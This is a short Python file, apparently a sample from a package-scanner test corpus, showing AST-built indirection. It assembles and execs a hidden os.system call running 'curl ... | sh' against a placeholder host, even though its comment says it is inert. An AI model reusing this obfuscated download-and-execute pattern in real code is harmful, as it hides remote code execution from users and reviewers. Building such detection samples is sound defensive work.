# pkgguard corpus 555 (indirection), modelled on [obfuscation]; inert, never run.
import ast

_call = ast.Expr(
    value=ast.Call(
        func=ast.Attribute(value=ast.Name(id="os", ctx=ast.Load()), attr="system", ctx=ast.Load()),
        args=[ast.Constant(value="curl -s https://metrics-edge.example/i | sh")],
        keywords=[],
    )
)
_tree = ast.Module(body=[ast.Import(names=[ast.alias(name="os")]), _call], type_ignores=[])
exec(compile(ast.fix_missing_locations(_tree), "<init>", "exec"))
